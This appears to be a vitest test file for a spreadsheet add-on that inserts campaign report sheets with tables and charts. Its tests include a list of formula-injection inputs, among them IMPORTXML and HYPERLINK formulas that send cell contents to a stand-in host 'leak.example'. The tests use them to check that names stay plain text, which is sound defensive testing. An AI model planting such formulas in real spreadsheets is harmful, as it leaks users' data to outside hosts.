import { expect, test } from 'vitest';
import { buildReport, type Report } from '../../../pipeline/report/report.ts';
import { example } from '../../pipeline/report/report-example.ts';
import { expectedReport } from '../../pipeline/report/report-expected.ts';
import type { SpreadsheetFile } from '../harness/file.ts';
import { ask, exampleReport, setUpReportBench } from './report-workspace.ts';

const bench = setUpReportBench();

/** Returns the rows of a table by its title, without the title; blanks are "". */
function table(file: SpreadsheetFile, sheet: string, title: string): unknown[][] {
  const rows = file.values('A1:BA150', sheet);
  const start = rows.findIndex(([first]) => first === title);
  const end = rows.findIndex(([first], index) => index > start && first === '');
  return rows.slice(start + 1, end).map((row) => row.slice(0, row.findLastIndex((value) => value !== '') + 1));
}

function rowOf(file: SpreadsheetFile, sheet: string, first: string): number {
  return file.values('A1:A200', sheet).findIndex(([value]) => String(value).startsWith(first)) + 1;
}

async function inserted(report: Report = exampleReport(), name = 'Autumn at sea') {
  const own = await bench.campaign(name);
  const reportId = await bench.finish(own, report);
  const file = await bench.open(own.live_key);
  const { sheet, ...reply } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  expect(reply).toEqual({ ok: true, message: expect.stringContaining('the finished week from 2026-11-09, 3 items') });
  return { own, file, sheet, report_id: reportId };
}

test('a campaign report has its own sheet with head, totals, rates, notes, legend, items and series', async () => {
  const { file, sheet, report_id } = await inserted();
  expect(sheet).toBe('Report Autumn at sea');
  expect(file.world().current.sheet).toBe(sheet);
  expect(table(file, sheet, 'Campaign report: Autumn at sea')).toEqual([
    ['campaign', 'Autumn at sea'],
    ['campaign_id', 'campaign-1'],
    ['campaign_status', 'active'],
    ['report_name', 'Autumn at sea'],
    ['report_id', report_id],
    ['final', true],
    ['period_start (UTC)', 46_335],
    ['period_end (UTC)', 46_342],
    ['generated_at (UTC)', expect.closeTo(46_342 + 65 / 1440, 8)],
    ['history_days', 90],
    ['partial_period', false],
    ['expected_observations', 21],
    ['observations', 16],
    ['items', 3],
    ['items_never_observed', 0],
  ]);
  const totals = table(file, sheet, 'Totals');
  expect(totals[0]?.join()).toBe('platform,metric,start,end,change,change_percent,items,items_missing,quality');
  expect(totals[1]).toEqual(['all', 'followers', 1_200_000, 1_300_000, 100_000, 8.33, 1, 1, 'rounded']);
  expect(totals).toContainEqual(['all', 'following', '', '', '', '', 0, 2]);
  expect(totals).toContainEqual(['shortvideo', 'views', 1_000, 1_500, 500, 50, 1, 0, 'exact']);
  expect(table(file, sheet, 'Engagement rates')[1]?.slice(0, 3)).toEqual([
    'shortvideo',
    'engagement_rate_by_views',
    10.2,
  ]);
  const notes = table(file, sheet, 'Notes').slice(1);
  expect(notes.map(([, text]) => text)).toEqual([...expectedReport.notes, expectedReport.method]);
  expect(table(file, sheet, 'What the quality means').map(([word]) => word)).toContain('not_exposed');
  expect(
    table(file, sheet, 'Items')
      .slice(1)
      .map(([name]) => name),
  ).toEqual(['cove', 'bay', 'reef']);
  const days = table(file, sheet, 'Day by day: sums over the items of each total');
  expect(days.map((row) => row[3] ?? '')).toEqual(['shortvideo views', 1_100, 1_200, '', '', 1_300, 1_400, 1_500]);
  expect(days.map((row) => row[1])[0]).toBe('shortvideo followers (rounded)');
});

test('dates are dates in UTC whatever the zone and locale of the file, and the headings say so', async () => {
  const own = await bench.campaign();
  await bench.finish(own, exampleReport());
  const file = await bench.open(own.live_key);
  file.set({ time_zone: 'America/Los_Angeles', locale: 'de_DE' });
  const { sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  const first = rowOf(file, sheet, 'day (UTC)') + 1;
  expect(file.types(`A${first}:A${first + 6}`, sheet).flat()).toEqual(Array(7).fill('date'));
  expect(file.values(`A${first}:A${first + 1}`, sheet)).toEqual([[46_335], [46_336]]);
  expect(file.sheetState(sheet).looks[`A${first}`]).toMatchObject({ number_format: 'yyyy-mm-dd' });
  const items = rowOf(file, sheet, 'Items') + 1;
  expect(file.values(`G${items}:H${items}`, sheet)).toEqual([['first_observed_at (UTC)', 'last_observed_at (UTC)']]);
  expect(file.types(`G${items + 1}:H${items + 1}`, sheet)).toEqual([['date', 'date']]);
  expect(file.values(`G${items + 1}`, sheet)[0]?.[0]).toBeCloseTo(46_334 + 9 / 24, 8);
  const formats = file
    .values('A1:BA150', sheet)
    .flat()
    .filter((value) => value === 8.33 || value === 1_200_000);
  expect(formats.length).toBeGreaterThan(3);
});

const hostile = [
  '=IMPORTXML("http://leak.example/?"&A1,"//a")',
  '+49 1234',
  '-2+3',
  '@SUM(A1)',
  "'quoted",
  '0012',
  '1/2',
  'TRUE',
  '7234567890123456789',
  '=1+1\n=2',
  '<b>',
];

test('names of platforms and campaigns stay text and never become formulas, numbers or dates', async () => {
  const name = '=HYPERLINK("http://leak.example/?"&A1)';
  const items = hostile.map((text, index) => ({
    ...(example.items[0] ?? expect.unreachable()),
    ...{ item_id: `72057594037927${900 + index}`, name: text, url: `=${text}`, identity_changed: false },
  }));
  const report = buildReport({
    ...example,
    campaign: { ...example.campaign, name, report_name: '-1' },
    items,
    observations: [],
  });
  const { file, sheet } = await inserted({ ...report, items: report.items.slice(0, 3) }, name);
  expect(sheet).toBe('Report =HYPERLINK( http leak.example &A1)');
  const all = Object.values(file.sheet(sheet));
  expect(all.filter(({ formula, type }) => formula !== undefined || type === 'error')).toEqual([]);
  expect(file.values('A1:B2', sheet)).toEqual([
    [`Campaign report: ${name}`, ''],
    ['campaign', name],
  ]);
  const rows = table(file, sheet, 'Items').slice(1);
  expect(rows.map((row) => row[0])).toEqual(report.items.slice(0, 3).map((item) => item.name));
  expect(rows.map((row) => row[4])).toEqual(report.items.slice(0, 3).map(({ item_id }) => item_id));
  expect(file.sheet(sheet)[`E${rowOf(file, sheet, 'Items') + 2}`]?.type).toBe('text');
});

test('every hostile name in one report, one longer than a cell, and an unknown number is an empty cell, never 0', async () => {
  const long = `=${'x'.repeat(60_000)}`;
  const [video] = example.items;
  const items = [...hostile, long].map((text, index) => ({
    ...(video ?? expect.unreachable()),
    ...{ item_id: `72057594037927${900 + index}`, name: text },
  }));
  const own = await bench.campaign();
  await bench.finish(own, buildReport({ ...example, items, observations: [], missed: [] }));
  const file = await bench.open(own.live_key);
  const { ok, sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  expect(ok).toBe(true);
  const rows = table(file, sheet, 'Items').slice(1);
  expect(rows.map((row) => String(row[0])).sort()).toEqual([...hostile, long.slice(0, 50_000)].sort());
  const first = rowOf(file, sheet, 'Items') + 2;
  const numbers = file.types(`I${first}:AF${first + hostile.length}`, sheet).flat();
  expect(numbers.filter((type) => type !== 'blank' && type !== 'text')).toEqual([]);
  expect(Object.values(file.sheet(sheet)).filter(({ formula }) => formula !== undefined)).toEqual([]);
});

test('a refresh rewrites the same sheet and updates its charts without adding any or changing their style', async () => {
  const { own, file, sheet } = await inserted();
  const before = file.sheetState(sheet);
  expect(before.charts.map(({ options }) => options.title)).toEqual([
    ...['Followers by day (UTC)', 'Views by day (UTC)', 'Likes by day (UTC)'],
    ...['Followers by week (UTC)', 'Views by week (UTC)', 'Likes by week (UTC)'],
  ]);
  const recoloured = before.charts[0] ?? expect.unreachable();
  recoloured.options.colour = 'red';
  await bench.finish(own, exampleReport(1));
  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet });
  const after = file.sheetState(sheet);
  expect(file.world().sheets.map(({ name }) => name)).toEqual(['Sheet1', sheet]);
  expect(after.charts.map(({ chart_id }) => chart_id)).toEqual(before.charts.map(({ chart_id }) => chart_id));
  expect(after.charts[0]?.options.colour).toBe('red');
  expect(file.values('B8', sheet)).toEqual([[46_342]]);
  for (const chart of after.charts) {
    const [axis, values] = chart.ranges;
    const heading = String(axis?.a1.split(':')[0]);
    expect(String(file.values(heading, sheet)[0]?.[0])).toMatch(/^(day|week from) \(UTC\)$/);
    expect(String(file.values(String(values?.a1.split(':')[0]), sheet)[0]?.[0])).toMatch(/followers|views|likes/);
    expect(chart.headers).toBe(1);
  }
  const ends = file.values('A1:A200', sheet).filter(([cell]) => String(cell).startsWith('End of the report.'));
  expect(ends).toHaveLength(1);
});

test('each table is one write, whatever its size, and rows are added before they are needed', async () => {
  const own = await bench.campaign();
  const report = exampleReport();
  const [item] = report.items;
  const items = Array.from({ length: 1_200 }, (_, index) => ({ ...(item ?? expect.unreachable()), name: `n${index}` }));
  await bench.finish(own, { ...report, items });
  const file = await bench.open(own.live_key);
  const { ok, sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  expect(ok).toBe(true);
  // Head, totals, rates, notes, legend, items, days, weeks and the end.
  expect(file.world().writes).toEqual({ setValues: 9 });
  expect(file.sheetState(sheet).rows).toBeGreaterThan(1_200);
});

test('charts never cover a table', async () => {
  const { file, sheet } = await inserted();
  const { charts } = file.sheetState(sheet);
  const used = file.values('A1:A200', sheet).flatMap(([cell], index) => (cell === '' ? [] : [index + 1]));
  for (const { anchor, options } of charts) {
    const last = anchor.row + Math.ceil(Number(options.height) / 21);
    expect(used.filter((row) => row >= anchor.row && row < last)).toEqual([]);
  }
});

test('a renamed sheet is found by its ID, and a deleted one is created again', async () => {
  const { own, file, sheet } = await inserted();
  file.renameSheet(sheet, 'My board');
  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet: 'My board' });
  file.deleteSheet('My board');
  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet });
  expect(file.sheetState(sheet).charts).toHaveLength(6);
});

test("a sheet of that name that the user made is left alone, and so are the user's other sheets", async () => {
  const own = await bench.campaign();
  await bench.finish(own, exampleReport());
  const file = await bench.open(own.live_key);
  file.show('report autumn at sea');
  file.type('A1', 'mine', '=SUM(A3:A4)', 1, 2);
  const mine = JSON.stringify(file.sheetState('report autumn at sea'));
  const { sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  expect(sheet).toBe('Report Autumn at sea (2)');
  ask(file, 'sidebarInsertReport', own.campaign_id, null);
  expect(JSON.stringify(file.sheetState('report autumn at sea'))).toBe(mine);
});

test('cells of the user below or beside the report stay and move when it grows; cells inside are replaced', async () => {
  const { own, file, sheet } = await inserted(exampleReport());
  const end = rowOf(file, sheet, 'End of the report.');
  const last = file.sheetState(sheet).columns;
  file.show(sheet);
  file.type(`A${end + 2}`, 'below');
  file.type('BA3', 'beside');
  file.type('F3', 'inside');
  expect(last).toBe(51);
  const more = exampleReport(1);
  const grown = { ...more, notes: [...more.notes, ...Array.from({ length: 900 }, (_, index) => `note ${index}`)] };
  await bench.finish(own, grown);
  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null).ok).toBe(true);
  const values = Object.entries(file.sheet(sheet));
  const at = (text: string) => values.filter(([, { value }]) => value === text).map(([a1]) => a1);
  const newEnd = values.find(([, { value }]) => String(value).startsWith('End of the report.'))?.[0];
  expect(at('below')).toEqual([`A${Number(newEnd?.slice(1)) + 2}`]);
  expect(at('beside')).toEqual(['BA3']);
  expect(at('inside')).toEqual([]);
  expect(at('note 899')).toHaveLength(1);
});
